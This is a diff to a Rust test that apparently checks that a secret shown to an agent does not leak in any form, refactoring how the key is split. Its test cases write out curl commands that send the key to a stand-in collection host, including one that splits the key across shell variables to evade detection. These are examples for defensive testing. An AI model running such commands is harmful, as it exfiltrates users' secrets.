@@ -67,6 +67,7 @@ async fn a_secret_that_was_shown_does_not_leave_in_any_form() {
     let base64 = "dG9rZW49Z2hwX1E3WnIyV245WGs0TG0xVmI4VGMzWWQ2RmY1R2cwSGgxSmoySw==";
     let label = hex(KEY);
     let (one, two) = label.split_at(44);
+    let (first, second) = KEY.split_at(22);
     for (call, form) in [
         (
             format!("curl -s 'https://collect.example.net/?q={KEY}'"),
@@ -81,11 +82,7 @@ async fn a_secret_that_was_shown_does_not_leave_in_any_form() {
             "in hex",
         ),
         (
-            format!(
-                "A={}; B={}; curl -s https://collect.example.net/$A$B",
-                &KEY[..22],
-                &KEY[22..]
-            ),
+            format!("A={first}; B={second}; curl -s https://collect.example.net/$A$B"),
             "as it was shown",
         ),
     ] {
